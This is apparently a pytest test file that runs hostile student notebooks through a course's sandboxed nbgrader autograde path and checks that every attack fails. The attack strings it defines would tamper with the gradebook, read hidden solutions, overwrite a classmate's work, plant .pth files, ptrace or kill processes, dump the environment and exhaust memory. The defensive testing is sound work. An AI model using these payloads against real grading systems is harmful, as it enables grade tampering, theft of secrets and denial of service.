"""Attacking submissions through the real ``nbgrader autograde`` path: the boundary is the
operating system's (bubblewrap), not an audit hook in the student's process.

A course from ``tools/make_course.py`` (exercise 01); an honest student graded *before*
the attackers, the attackers, then a second honest student graded *after* them. Each
attacker's cells try, at their top level (the kernel) and inside their answers (the
regrade's learner's processes), what a cheating student tried against the old design or
could invent: write the gradebook (a plain path, a ``file:`` sqlite URI, through
``/proc/self/cwd``), read the hidden tests and solutions, overwrite, rename or hard-link a
classmate's submission, use the engine's own functions, plant a ``.pth`` file in the
virtual environment, kill or trace the grader, connect to a socket the test listens on,
read the grader's environment and other processes' ``/proc``, leave a shared-memory
segment, print 60 MB, exhaust memory.

Expected: every attacker scores nothing (each answer is otherwise a stub or a fake), both
honest students keep full marks with their notebooks untouched, no grade carries a manual
score, nothing planted exists afterwards, no connection arrived, every autograde run
succeeded, and no autograded notebook is larger than a few MB.
"""

from __future__ import annotations

import hashlib
import json
import os
import secrets
import socket
import subprocess
import sys
from pathlib import Path

import nbformat
import pytest

from ssa_course.grading import box

ROOT = Path(__file__).resolve().parent.parent
ASSIGNMENT = "01-quads"
NOTEBOOK = f"{ASSIGNMENT}.ipynb"
CELLS = ("leaders", "successors", "unreachable")
pytestmark = [
    pytest.mark.skipif(box.check() is not None, reason=f"no sandbox here: {box.check()}"),
    pytest.mark.skipif(not sys.platform.startswith("linux"), reason="Linux only"),
]

# A stub answer for each task: what an attacker's notebook scores when its attack fails.
STUBS = {name: f"def {name}(*args):\n    raise NotImplementedError\n" for name in CELLS}

# Each attack is the top of one answer cell; {course}, {venv}, {port}, {victim} are filled in.
ATTACKS = {
    "gradebook": """
import glob, os, sqlite3
_targets = ['{course}/gradebook.db', '/proc/self/cwd/../../../gradebook.db',
            '../../../gradebook.db', *glob.glob('/**/gradebook.db', recursive=True)[:3]]
for _t in _targets:
    for _how in (lambda p: sqlite3.connect(p), lambda p: sqlite3.connect('file:' + p, uri=True)):
        try:
            _db = _how(_t)
            _db.execute("update grade set manual_score = 100")
            _db.commit()
            print('WROTE', _t)
        except Exception as _e:
            pass
""",
    "hidden": """
import json, os
for _p in ['{course}/source/01-quads/01-quads.ipynb',
           '/proc/self/cwd/../../../source/01-quads/01-quads.ipynb',
           '../../../source/01-quads/01-quads.ipynb', '{root}/solutions/01-quads.ipynb']:
    try:
        for _c in json.load(open(_p))['cells']:
            if _c['metadata'].get('nbgrader', {{}}).get('solution'):
                exec(''.join(_c['source']))
        print('READ', _p)
        break
    except Exception:
        pass
""",
    "classmate": """
import os, shutil
_v = '{course}/submitted/{victim}/01-quads/01-quads.ipynb'
for _try in (lambda: shutil.copy('{course}/release/01-quads/01-quads.ipynb', _v),
             lambda: os.rename(_v, '/tmp/stolen.ipynb'),
             lambda: os.link(_v, 'mine.ipynb'),
             lambda: os.symlink('{course}', 'course') or open('course/gradebook.db', 'ab'),
             lambda: open('{course}/autograded/{victim}/01-quads/01-quads.ipynb', 'w').write('')):
    try:
        _try()
        print('DID', _try)
    except Exception:
        pass
""",
    "engine": """
from ssa_course.quads.cfg import find_leaders, build_cfg
from ssa_course.quads.ir import Function
def leaders(body):
    return find_leaders(Function('f', [], None, body))
""",
    "plant": """
import os, glob
for _site in glob.glob('{venv}/lib/python*/site-packages'):
    try:
        open(_site + '/zz_ssa_evil.pth', 'w').write('import os\\n')
        print('PLANTED', _site)
    except Exception:
        pass
import ssa_course
try:
    open(ssa_course.__file__, 'a').write('\\n# evil\\n')
except Exception:
    pass
try:
    from multiprocessing import shared_memory
    shared_memory.SharedMemory(name='ssa_evil_shm', create=True, size=64)
except Exception:
    pass
""",
    "processes": """
import ctypes, os, signal, socket
for _pid in (os.getppid(), 1):
    try:
        ctypes.CDLL(None).ptrace(16, _pid, 0, 0)  # PTRACE_ATTACH
    except Exception:
        pass
try:
    socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'ATTACK')
except Exception:
    pass
print('ENV', dict(os.environ))
print('PROCS', [open(f'/proc/{{p}}/cmdline', 'rb').read()[:60] for p in os.listdir('/proc')
                if p.isdigit()])
try:
    os.fork()
except Exception as _e:
    print('no fork', _e)
""",
    "flood": """
import sys
for _ in range(60):
    sys.stdout.write('x' * (1 << 20) + '\\n')
_hog = []
try:
    while True:
        _hog.append(bytearray(1 << 28))
except MemoryError:
    _hog = None
""",
    "killer": """
import os, signal
try:
    os.kill(-1, signal.SIGKILL)
except Exception:
    pass
""",
}


def _solutions() -> dict[str, str]:
    source = nbformat.read(ROOT / "solutions" / NOTEBOOK, as_version=4)
    out = {}
    for cell in source.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
        if gid in CELLS:
            out[gid] = cell.source
    return out


def _submit(course: Path, student: str, answers: dict[str, str]) -> Path:
    released = nbformat.read(course / "release" / ASSIGNMENT / NOTEBOOK, as_version=4)
    for cell in released.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
        if gid in answers:
            cell.source = answers[gid]
    target = course / "submitted" / student / ASSIGNMENT
    target.mkdir(parents=True)
    nbformat.write(released, target / NOTEBOOK)
    (target / "timestamp.txt").write_text("2026-12-06 12:00:00 UTC\n")
    return target / NOTEBOOK


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def test_attackers_score_nothing_and_harm_nobody(tmp_path, jupyter_env, monkeypatch):
    monkeypatch.setenv("SSA_TEST_SECRET", "s3cr3t-" + secrets.token_hex(8))  # not for them
    from nbgrader.api import Gradebook
    from nbgrader.apps import NbGraderAPI
    from traitlets.config.loader import PyFileConfigLoader

    course = tmp_path / "course"
    done = subprocess.run([sys.executable, str(ROOT / "tools" / "make_course.py"), "--out",
                           str(course), "--exchange", str(tmp_path / "exchange"),
                           "--assignments", ASSIGNMENT, "--timeout", "60"],
                          capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    cfg = PyFileConfigLoader("nbgrader_config.py", path=str(course)).load_config()
    cfg.GenerateAssignment.force = True
    api = NbGraderAPI(config=cfg)
    assert api.generate_assignment(ASSIGNMENT)["success"]
    assert api.release_assignment(ASSIGNMENT)["success"]

    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(5)
    listener.setblocking(False)
    port = listener.getsockname()[1]
    venv = os.path.dirname(os.path.dirname(os.path.abspath(sys.executable)))
    solutions = _solutions()

    first = _submit(course, "aaa_honest", solutions)
    assert api.autograde(ASSIGNMENT, "aaa_honest")["success"]
    first_graded = course / "autograded" / "aaa_honest" / ASSIGNMENT / NOTEBOOK
    before = {p: _digest(p) for p in (first, first_graded)}
    victim = _submit(course, "zzz_victim", solutions)
    victim_digest = _digest(victim)

    attackers = []
    for name, attack in ATTACKS.items():
        code = attack.format(course=course, venv=venv, port=port, victim="zzz_victim",
                             root=ROOT)
        answers = dict(STUBS)
        # the attack at the top of the first cell; the engine's fake replaces leaders
        answers["leaders"] = code if name == "engine" else code + "\n" + STUBS["leaders"]
        for cell in CELLS[1:]:  # inside the answers too: the regrade's learner's processes
            answers[cell] = (f"def {cell}(*args):\n    exec({code!r}, globals())\n"
                             "    raise NotImplementedError\n")
        student = f"mmm_{name}"
        _submit(course, student, answers)
        attackers.append(student)
        result = api.autograde(ASSIGNMENT, student)
        assert result["success"], (name, result["log"][-3000:], result["error"])

    assert api.autograde(ASSIGNMENT, "zzz_victim")["success"]

    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
        full = gb.find_assignment(ASSIGNMENT).max_score
        for student in attackers:
            score = gb.find_submission(ASSIGNMENT, student).score
            assert score == 0, (student, score)
        for student in ("aaa_honest", "zzz_victim"):
            assert gb.find_submission(ASSIGNMENT, student).score == full, student
            for nb in gb.find_submission(ASSIGNMENT, student).notebooks:
                for grade in nb.grades:
                    assert grade.manual_score is None, (student, grade.name)
        for student in attackers:
            for nb in gb.find_submission(ASSIGNMENT, student).notebooks:
                for grade in nb.grades:
                    assert grade.manual_score is None, (student, grade.name)

    assert {p: _digest(p) for p in before} == before  # the first honest student untouched
    assert _digest(victim) == victim_digest
    assert not Path("/tmp/stolen.ipynb").exists()
    assert not list(Path(venv).glob("lib/python*/site-packages/zz_ssa_evil.pth"))
    assert not Path("/dev/shm/ssa_evil_shm").exists()
    import ssa_course
    assert "# evil" not in Path(ssa_course.__file__).read_text()
    try:
        conn, _ = listener.accept()
        pytest.fail(f"a sandboxed process connected to the grader's machine: {conn}")
    except BlockingIOError:
        pass
    listener.close()

    secret = os.environ["SSA_TEST_SECRET"]
    for student in attackers:
        graded = course / "autograded" / student / ASSIGNMENT / NOTEBOOK
        assert graded.stat().st_size < 4 << 20, (student, graded.stat().st_size)
        shown = json.dumps([c.get("outputs", []) for c in
                            json.loads(graded.read_text())["cells"]])
        for word in ("WROTE", "READ", "PLANTED", "DID", secret):
            assert word not in shown, (student, word)
